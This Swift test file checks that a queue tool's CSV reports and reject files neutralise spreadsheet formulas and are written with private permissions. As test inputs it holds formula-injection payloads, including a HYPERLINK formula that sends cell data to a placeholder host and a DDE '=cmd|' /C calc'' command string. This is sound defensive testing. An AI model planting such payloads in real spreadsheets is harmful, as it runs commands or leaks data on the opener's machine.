import Foundation
import JourneyQueue
import Testing

/// Files of personal data are private, and a report opened in a spreadsheet runs nothing (issue 10).
@Suite(.timeLimit(.minutes(12))) struct PersonalDataFileTests {
    static let formulas = [#"=HYPERLINK("http://x/?"&A1,"ok")"#, "+1+2", "@SUM(A1)", "-2+3", "plain"]

    func mode(_ path: String) throws -> Int {
        (try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as! NSNumber).intValue & 0o777
    }

    @Test func aCSVReportNeutralisesFormulasAndExportKeepsKeysExact() async throws {
        let scratch = try Scratch()
        let db = scratch.path("q.sqlite")
        let input = try scratch.write(
            "in.ndjson", Self.formulas.map { "{\"contactKey\":\(JSONString($0)),\"data\":{}}" }.joined(separator: "\n"))
        #expect(try await JourneyqProcess.run(["enqueue", "--db", db, "--destination", "d", input]).status == 0)
        let report = scratch.path("report.csv")
        let result = try await JourneyqProcess.run(["report", "--db", db, "--format", "csv", "--output", report])
        #expect(result.status == 0, "\(result.stderr)")
        let text = try String(contentsOfFile: report, encoding: .utf8)
        #expect(text.contains(#""'=HYPERLINK(""http://x/?""&A1,""ok"")""#))
        for neutral in ["'+1+2", "'@SUM(A1)", "'-2+3", ",plain,"] { #expect(text.contains(neutral), "\(neutral)") }
        #expect(
            !text.split(separator: "\n").contains { line in
                line.split(separator: ",").contains { $0.hasPrefix("=") || $0.hasPrefix("+") || $0.hasPrefix("@") }
            })
        #expect(try mode(report) == 0o600)
        // Keys cannot hold a tab or a carriage return, but reasons can: those cells are neutralised too.
        #expect(ReportRenderer.csvField("\tcmd") == "'\tcmd" && ReportRenderer.csvField("\r=1") == "\"'\r=1\"")
        let export = scratch.path("all.ndjson")
        #expect(try await JourneyqProcess.run(["export", "--db", db, "--state", "queued", "--output", export]).status == 0)
        #expect(try mode(export) == 0o600)
        let keys = try String(contentsOfFile: export, encoding: .utf8).split(separator: "\n").map { line in
            (try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any])["contactKey"] as! String
        }
        #expect(Set(keys) == Set(Self.formulas), "NDJSON for re-import keeps keys exact")
    }

    @Test func rejectsArePrivateAndNeutralisedAsCSV() async throws {
        let scratch = try Scratch()
        let input = try scratch.write("in.csv", "contactKey,email\n=cmd|' /C calc'!A0,\n,x@y.se\nok,a@b.se\n")
        let rejects = scratch.path("rejects.csv")
        let result = try await JourneyqProcess.run([
            "enqueue", "--db", scratch.path("q.sqlite"), "--destination", "d", "--skip-invalid", "--rejects", rejects, input,
        ])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try mode(rejects) == 0o600)
        let text = try String(contentsOfFile: rejects, encoding: .utf8)
        #expect(text.hasPrefix("line,field,error,record\n"))
        #expect(!text.split(separator: "\n").contains { $0.split(separator: ",").contains { $0.hasPrefix("=") } })
        let ndjson = scratch.path("rejects.ndjson")
        #expect(
            try await JourneyqProcess.run([
                "enqueue", "--db", scratch.path("q2.sqlite"), "--destination", "d", "--skip-invalid", "--rejects", ndjson, input,
            ]).status == 0)
        #expect(try mode(ndjson) == 0o600)
    }

    @Test func anOutputThatNamesADirectoryIsRefusedAndNothingIsDeleted() async throws {
        let scratch = try Scratch()
        let db = scratch.path("q.sqlite")
        #expect(
            try await JourneyqProcess.run(["enqueue", "--db", db, "--destination", "d", "-"], stdin: "{\"contactKey\":\"a\"}\n").status == 0
        )
        let directory = scratch.path("reports")
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        let precious = try scratch.write("reports/keep.txt", "keep")
        let result = try await JourneyqProcess.run(["report", "--db", db, "--output", directory])
        #expect(result.status == 2)
        #expect(result.stderr.contains("is a directory"))
        #expect(FileManager.default.fileExists(atPath: precious))
        #expect(try FileManager.default.contentsOfDirectory(atPath: directory) == ["keep.txt"], "no partial file left behind")
    }
}

private func JSONString(_ text: String) -> String {
    String(decoding: try! JSONSerialization.data(withJSONObject: [text], options: [.withoutEscapingSlashes]), as: UTF8.self).dropFirst()
        .dropLast().description
}
